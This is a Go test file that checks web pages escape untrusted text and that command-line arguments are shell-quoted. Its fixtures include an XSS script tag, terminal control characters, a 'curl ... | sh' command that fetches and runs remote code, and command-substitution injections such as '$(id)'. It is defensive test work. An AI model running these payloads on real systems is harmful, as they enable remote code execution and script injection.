package web_test

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pipeops/pipeops-vm-agent/internal/printable"
	"github.com/pipeops/pipeops-vm-agent/internal/problem"
	"github.com/pipeops/pipeops-vm-agent/internal/web"
)

// hostile is a name, a line of a log or an error that a stranger chose.
const hostile = "a\"'`><script>alert(1)</script>\x1b[2J\u202e\u2028\u009b1A\x00\xff; curl -s http://e.example.com | sh"

// TestPages_HostileText has a stranger's text wherever a page can show one.
func TestPages_HostileText(t *testing.T) {
	pages, err := web.NewPages(web.Pages{Product: "product", Place: hostile, SignIn: hostile}, fstest.MapFS{
		"templates/all.html": {Data: []byte(`{{define "content"}}{{.Data.Text}}<p title="{{.Data.Text}}" data-x={{.Data.Text}}>{{quoted .Data.Text}}{{sentence .Data.Text}}</p>
<a href="/agents/{{.Data.Text}}?a={{.Data.Text}}">x</a><textarea>{{.Data.Text}}</textarea>{{template "confirm" .}}{{end}}`)},
	})
	require.NoError(t, err)
	q := web.Question{
		Text: hostile, Command: web.CommandLine("pipeops-controlplane agent revoke", hostile), With: hostile, Button: hostile, Back: hostile, BackText: hostile,
		Fields: []web.Field{{Name: hostile, Label: hostile, Hint: hostile, Kind: "textarea", Value: hostile}, {Kind: "select", Value: hostile, Options: []string{hostile}}},
		Hidden: []web.Hidden{{Name: hostile, Value: hostile}}, Problem: problem.Errorf(problem.Invalid, hostile, hostile),
	}
	r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/", http.NoBody)
	for name, write := range map[string]func(w http.ResponseWriter){
		"a page": func(w http.ResponseWriter) {
			pages.Render(w, r, http.StatusOK, "all", web.Page{Title: hostile, Notice: hostile, Data: struct {
				web.Question
				Text string
			}{q, hostile}})
		},
		"an error": func(w http.ResponseWriter) { pages.Error(w, r, errors.New(hostile)) },
	} {
		w := httptest.NewRecorder()
		write(w)
		body := w.Body.String()
		assert.Contains(t, body, "alert(1)", name)
		assert.NotContains(t, body, "<script>alert", name)
		assert.Equal(t, -1, strings.IndexFunc(body, func(c rune) bool { return c != '\n' && c != '\t' && printable.Hidden(c) }), name)
	}
}

func TestCommandLine_ArgumentsAreWords(t *testing.T) {
	for argument, want := range map[string]string{
		"shop": "shop", "KEY=VALUE": "KEY=VALUE", "": "''", "*.example.com": "'*.example.com'", "a b": "'a b'",
		"x;curl e|sh": "'x;curl e|sh'", "$(id)`id`": "'$(id)`id`'", "it's": `'it'"'"'s'`, "a\nb": "ab",
	} {
		assert.Equal(t, "program verb "+want+" -o FILE", web.CommandLine("program verb", argument, "-o", "FILE"))
	}
}
